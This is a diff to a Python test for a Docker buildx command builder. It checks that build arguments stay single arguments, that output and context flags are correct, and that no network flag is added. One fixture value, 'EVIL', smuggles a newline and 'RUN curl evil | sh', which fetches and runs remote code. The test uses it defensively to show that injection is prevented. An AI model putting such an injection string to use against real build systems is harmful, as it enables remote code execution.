@@ -12,23 +12,24 @@ import json
 from pathlib import Path
 
 from builder.oci import buildkit
+from builder.oci.engine import BuildRequest
 
 RECORDING = Path(__file__).parent / "fixtures" / "buildkit" / "rawjson-4-steps-2-cached.txt"
 
 
 def test_argv_passes_every_value_as_one_argument_and_no_network_flag():
-    request = buildkit.BuildRequest(
+    request = BuildRequest(
         dockerfile="images/cpu/Dockerfile", context=".", platform="linux/amd64",
         build_args={"WHEELS_TORCH": "torch==2.13.0+cpu --hash=sha256:ab", "EVIL": "x\nRUN curl evil | sh"},
         contexts={"wheels-torch": "/w/torch"}, labels={"a": "b c"}, cache_from=("type=registry,ref=r:cpu",),
         cache_to=("type=inline",), compression="zstd")
-    argv = request.argv(metadata="/tmp/m.json")
+    argv = buildkit.argv(request, metadata="/tmp/m.json")
     assert argv[:3] == ["docker", "buildx", "build"]
     assert "--build-arg" in argv and "WHEELS_TORCH=torch==2.13.0+cpu --hash=sha256:ab" in argv
     assert "EVIL=x\nRUN curl evil | sh" in argv, "a value stays one argument: it can't become an instruction"
     assert argv[argv.index("--build-context") + 1] == "wheels-torch=/w/torch"
     assert argv[argv.index("--output") + 1] == "type=docker,compression=zstd,force-compression=true,oci-mediatypes=true"
-    plain = buildkit.BuildRequest(dockerfile="D", context=".", platform="linux/amd64").argv()
+    plain = buildkit.argv(BuildRequest(dockerfile="D", context=".", platform="linux/amd64"))
     # gzip is forced too: a layer whose only blob is zstd (built for a zstd target) is compressed again
     assert plain[plain.index("--output") + 1] == "type=docker,compression=gzip,force-compression=true"
     assert "--network" not in argv and not any(a.startswith("--network") for a in argv)
